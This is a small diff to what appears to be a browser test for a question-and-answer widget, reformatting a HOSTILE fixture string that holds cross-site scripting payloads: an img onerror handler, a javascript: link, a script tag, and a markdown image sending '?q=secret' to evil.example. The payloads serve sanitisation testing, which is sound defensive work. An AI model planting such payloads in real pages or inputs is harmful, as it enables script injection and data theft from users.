@@ -23,7 +23,8 @@ BOX = "#kotae-question textarea"
 ANSWER = ".kotae-answer:not(.kotae-is-draft)"
 HOSTILE = (
     "It opens <img src=https://evil.example/a.png onerror=\"document.title='pwned'\"> at nine [1].\n\n"
-    "![x](https://evil.example/?q=secret) [go](javascript:document.title='pwned') <script>document.title='pwned'</script>"
+    "![x](https://evil.example/?q=secret) [go](javascript:document.title='pwned') "
+    "<script>document.title='pwned'</script>"
 )
 
 
